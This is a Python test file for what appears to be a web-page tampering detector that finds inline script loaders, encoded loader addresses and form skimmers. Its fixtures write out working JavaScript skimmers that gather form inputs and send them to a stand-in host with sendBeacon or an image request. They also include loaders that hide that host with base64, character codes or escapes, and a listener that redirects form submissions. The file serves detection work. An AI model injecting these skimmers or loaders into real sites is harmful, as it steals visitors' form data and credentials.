"""Inline loads: addresses inline scripts load from, written plainly or hidden, found and scored."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
from tamperwatch.detect.inline_loads import ENCODED, PLAIN, SKIMMER, inline_loads

from .synthetic import news_page, page
from .test_foreign_injection import rotating_part, trusted_part

EVIL = "https://stats.example-analytics.net/t.js"
CODES = ",".join(str(ord(c)) for c in EVIL)
B64 = base64.b64encode(EVIL.encode()).decode()
ESCAPED = "".join(f"%{ord(c):02x}" for c in EVIL)
HEX = "".join(f"\\x{ord(c):02x}" for c in EVIL)  # '\x68\x74...' as written in the script
UNI = "".join(f"\\u{ord(c):04x}" for c in EVIL)


def loads(script: str) -> list[tuple[str, str]]:
    return inline_loads(LexborHTMLParser(f"<html><body>{script}</body></html>"))


@pytest.mark.parametrize(
    ("script", "how"),
    [
        (
            f'<script>var s=document.createElement("script");s.src="{EVIL}";document.body.append(s)</script>',
            PLAIN,
        ),
        (f"<script>s.setAttribute('src', '{EVIL}')</script>", PLAIN),
        (f"<script>document.write('<script src=\\\"{EVIL}\\\"><\\/script>')</script>", PLAIN),
        (f'<script>var u=atob("{B64}");var s=document.createElement("script");s.src=u;</script>', ENCODED),
        (f"<script>var u=String.fromCharCode({CODES});</script>", ENCODED),
        (f"<script>document.write(unescape('{ESCAPED}'))</script>", ENCODED),
        (f"<script>document.write(decodeURIComponent('{ESCAPED}'))</script>", ENCODED),
        (f"<script>var k=document.createElement('script');k['src']='{HEX}';</script>", ENCODED),
        (f"<script>var k=document.createElement('script');k.src='{UNI}';</script>", ENCODED),
        (
            "<script>document.addEventListener('submit',function(e){var d={};"
            "e.target.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
            f"navigator.sendBeacon('{EVIL}',JSON.stringify(d))}},true)</script>",
            SKIMMER,
        ),
        (
            "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
            f"new Image().src='{EVIL}?d='+q.join(',')</script>",
            SKIMMER,
        ),
    ],
)
def test_the_address_an_inline_script_loads_from_is_found(script: str, how: str) -> None:
    assert any(url.startswith(EVIL) and found == how for url, found in loads(script)), loads(script)


def test_data_and_external_scripts_are_not_read_as_inline_code() -> None:
    assert loads(f'<script type="application/ld+json">{{"x": "src=\\"{EVIL}\\""}}</script>') == []
    assert loads(f'<script src="/a.js">s.src="{EVIL}"</script>') == []


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="atob(fromCharCode)unescape%src=\"'`/:.,0123456789aZ+ ", max_size=300))
def test_any_inline_code_is_read_without_raising(code: str) -> None:
    assert isinstance(loads(f"<script>{code}</script>"), list)


def test_a_skimmer_is_strong_evidence_even_where_vendors_rotate() -> None:
    det = ForeignInjectionDetector()
    script = (
        "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
        f"new Image().src='{EVIL}?d='+q.join(',')</script>"
    )
    [finding] = det.detect(rotating_part(det), page(news_page(9, body_extra=script)))
    assert finding.score >= 0.5 and "skimmer" in finding.reason


def test_an_obfuscated_loader_from_an_unseen_origin_is_content_evidence_with_a_reason() -> None:
    det = ForeignInjectionDetector()
    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
    assert finding.content and finding.score >= 0.5
    assert "address it hides (encoded), unseen origin example-analytics.net" in finding.reason


def test_a_plain_inline_loader_is_weaker_evidence_than_the_same_script_tag() -> None:
    """Ad and consent loaders rotate vendors from inline code: a plain one alone stays below the
    suspicious threshold (it only adds to decisive evidence); the bare tag for the same address
    is content evidence."""
    det = ForeignInjectionDetector()
    part = rotating_part(det)
    inline = f'<script>var s=document.createElement("script");s.src="{EVIL}";</script>'
    tag = f'<script src="{EVIL}"></script>'
    [by_inline] = det.detect(part, page(news_page(9, body_extra=inline)))
    [by_tag] = det.detect(part, page(news_page(9, body_extra=tag)))
    assert 0.15 <= by_inline.score < 0.3 and by_tag.score >= 0.5
    assert by_inline.reason == "inline script loading from unseen origin example-analytics.net"


def test_an_inline_loader_seen_in_the_trusted_captures_raises_nothing() -> None:
    det = ForeignInjectionDetector()
    script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
    part: dict[str, object] = {}
    for day in range(3):
        det.learn_trusted(part, page(news_page(day, body_extra=script)))
    assert det.detect(part, page(news_page(9, body_extra=script))) == []


def test_an_import_map_loads_the_addresses_it_maps_module_names_to() -> None:
    script = (
        '<script type="importmap">{"imports": {"app-shell": "https://mods.heliotrope.example/a.mjs"}}</script>'
        '<script type="module">import "app-shell";</script>'
    )
    assert ("https://mods.heliotrope.example/a.mjs", PLAIN) in loads(script)


def test_a_submit_listener_that_points_the_form_elsewhere_is_a_skimmer() -> None:
    script = (
        "<script>document.addEventListener('submit',function(e){"
        "e.target.action='https://collect.heliotrope.example/in';},true);</script>"
    )
    assert ("https://collect.heliotrope.example/in", SKIMMER) in loads(script)


def test_an_action_field_of_an_event_or_a_form_sent_to_the_site_itself_is_no_skimmer() -> None:
    script = (
        "<script>document.querySelectorAll('input[type=checkbox]').forEach(function(b){"
        "b.addEventListener('change',function(ev){ev.action='toggle';if(ev.action=='x'){}});});"
        "document.forms[0].addEventListener('submit',function(){this.action='/suche';});"
        "var cfg={widget:'https://cdn.widgetvendor.example/w.js'};</script>"
    )
    assert all(how != SKIMMER for _, how in loads(script))
